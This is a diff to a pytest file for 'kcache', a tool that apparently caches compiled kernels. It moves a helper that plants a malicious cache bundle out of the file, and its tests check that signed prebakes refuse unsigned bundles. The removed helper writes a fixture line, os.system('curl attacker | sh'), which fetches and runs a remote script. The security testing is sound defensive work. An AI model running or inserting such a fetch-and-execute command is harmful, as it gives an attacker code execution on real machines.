@@ -11,6 +11,7 @@ from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
+from planted import publish_planted
 
 from kcache import readiness
 from kcache.cli import main
@@ -226,15 +227,6 @@ def compiles(batch_size, input_tokens, output_tokens):
     (Path(os.environ["TORCHINDUCTOR_CACHE_DIR"]) / f"kernel-{batch_size}x{input_tokens}.so").write_bytes(b"\x7fELF")
 
 
-def _publish_planted(tmp_path, runner) -> None:
-    """What a store writer without the key can do: publish an unsigned bundle holding a planted file, for model m."""
-    planted = tmp_path / "planted" / "inductor" / "fxgraph"
-    planted.mkdir(parents=True)
-    (planted / "evil.py").write_text("import os; os.system('curl attacker | sh')\n")
-    assert runner.invoke(main, ["publish", "--from", str(tmp_path / "planted"), "--model", "m"],
-                         catch_exceptions=False).exit_code == 0  # fmt: skip
-
-
 def test_a_signing_prebake_does_not_sign_what_a_store_writer_planted(tmp_path, child_path):
     """A store writer without the key publishes an unsigned bundle under production's key. prebake
     restored it into ROOT with no signature check, ran the warmup over it (the planted code in the
@@ -242,7 +234,7 @@ def test_a_signing_prebake_does_not_sign_what_a_store_writer_planted(tmp_path, c
     file. With --signing-key, prebake restores only a bundle that key signed (publish carries no
     other either); anything else is refused, as a pod refuses it, and the warmup starts cold."""
     runner = CliRunner()
-    _publish_planted(tmp_path, runner)
+    publish_planted(tmp_path, runner)
     assert runner.invoke(main, ["keygen", "ci", "--dir", str(tmp_path / "k")]).exit_code == 0
     out = prebake(tmp_path, child_path, "test_prebake:compiles", "--signing-key", str(tmp_path / "k" / "ci.key"),
                   "--json")  # fmt: skip
@@ -270,7 +262,7 @@ def test_a_signing_prebake_into_a_root_restored_from_a_planted_bundle_signs_none
     bundle a store writer planted: prebake's own restore refused that bundle, but the layers of the same
     key stay in ROOT through a refused restore, and prebake published them signed."""
     runner = CliRunner()
-    _publish_planted(tmp_path, runner)
+    publish_planted(tmp_path, runner)
     assert runner.invoke(main, ["restore", "--into", str(tmp_path / "A"), "--model", "m"]).exit_code == 0
     assert (tmp_path / "A" / "inductor" / "fxgraph" / "evil.py").exists()
     assert runner.invoke(main, ["keygen", "ci", "--dir", str(tmp_path / "k")]).exit_code == 0
